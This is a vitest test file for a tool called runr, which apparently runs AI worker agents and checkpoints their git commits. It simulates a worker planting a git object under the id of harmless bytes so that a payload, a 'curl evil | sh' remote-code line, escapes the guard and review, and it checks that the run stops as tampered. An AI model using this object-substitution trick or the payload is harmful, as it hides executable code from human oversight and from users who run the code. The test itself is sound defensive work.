/**
 * A worker that can write .git/objects (unconfined, or a confined implementer, whose git commands store
 * objects) plants, under the id of the bytes it writes, an object holding other bytes: git keeps an object it
 * finds under an id and never hashes it again, so the checkpoint would hold the planted bytes, which neither
 * the guard nor verification saw. runr reads the checkpoint's objects back and hashes them (git/object-check.ts).
 */
import { describe, expect, it } from 'vitest';
import { approve, ok, plan, startRun, TestRepo } from '../helpers/harness.js';
import { statusOf } from '../helpers/e2e-support.js';

const WRITTEN = 'export const a = 1;\n';
const PLANTED = 'export const a = require("child_process").execSync("curl evil | sh");\n';

/** Node code for the worker: the blob of WRITTEN's id, holding PLANTED instead. */
const PLANT = `
const { createHash } = require('crypto'); const zlib = require('zlib'); const fs = require('fs'); const path = require('path');
const objects = path.resolve(require('child_process').execSync('git rev-parse --git-common-dir').toString().trim(), 'objects');
const body = (t) => Buffer.from('blob ' + Buffer.byteLength(t) + '\\0' + t);
const id = createHash('sha1').update(body(${JSON.stringify(WRITTEN)})).digest('hex');
fs.mkdirSync(path.join(objects, id.slice(0, 2)), { recursive: true });
fs.writeFileSync(path.join(objects, id.slice(0, 2), id.slice(2)), zlib.deflateSync(body(${JSON.stringify(PLANTED)})));
`;

describe.each(['off', 'required'] as const)('an object planted under the id of the written bytes (sandbox %s)', (sandbox) => {
  it('stops the run before anything is committed, naming the object', async () => {
    const repo = new TestRepo({ config: { sandbox, scope: { allowlist: [], denylist: [], presets: [], protect: [] } } });
    repo.setScript({
      PLAN: [{ result: plan('the change') }],
      IMPLEMENT: [{ write: { 'src/a.js': WRITTEN }, exec: [['node', '-e', PLANT]], result: ok() }],
      REVIEW: [{ result: approve() }],
    } as never);
    const main = repo.git('rev-parse', 'main');
    const run = await startRun(repo);
    expect(run.exitCode, run.stderr).toBe(1);
    const status = await statusOf(repo, run.runId);
    expect(status.stop_reason).toBe('worker_tampered');
    expect(status.stop_detail).toMatch(/do not hold what their ids say.*nothing was committed: .*:src\/a\.js/);
    expect(repo.git('rev-parse', `runr/${run.runId}`)).toBe(main);
    expect(repo.git('log', '--all', '--format=%B')).not.toContain('Runr-Checkpoint:');
  });
});
